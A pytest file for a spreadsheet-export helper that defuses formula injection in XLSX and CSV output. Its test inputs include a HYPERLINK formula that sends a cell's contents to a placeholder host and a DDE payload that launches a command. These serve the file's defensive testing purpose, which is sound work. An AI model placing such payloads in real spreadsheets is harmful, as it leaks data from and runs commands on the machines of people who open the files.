import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from kohtaanto.common.spreadsheets import safe_cell

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1;"Klikkaa")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_be_a_formula_is_written_as_text_in_xlsx(text):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([safe_cell(text)])
    buffer = io.BytesIO()
    book.save(buffer)
    cell = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s"
    assert cell.value == "'" + text


def test_unsafe_xlsx_cell_would_have_been_a_formula():
    # The reason for the helper: openpyxl writes such text as a live formula.
    book = openpyxl.Workbook()
    book.active.append([HOSTILE[0]])
    buffer = io.BytesIO()
    book.save(buffer)
    assert openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active["A1"].data_type == "f"


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_be_a_formula_starts_with_a_quote_in_csv(text):
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerow([safe_cell(text), "x"])
    field = next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))[0]
    assert field == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "Hitsauskoulutus",
        "Kokkola - Kannus",
        "",
        12,
        -5,
        Decimal("-1234.50"),
        1.5,
        None,
        datetime.date(2026, 2, 14),
    ],
)
def test_ordinary_text_and_numbers_are_unchanged(value):
    assert safe_cell(value) == value
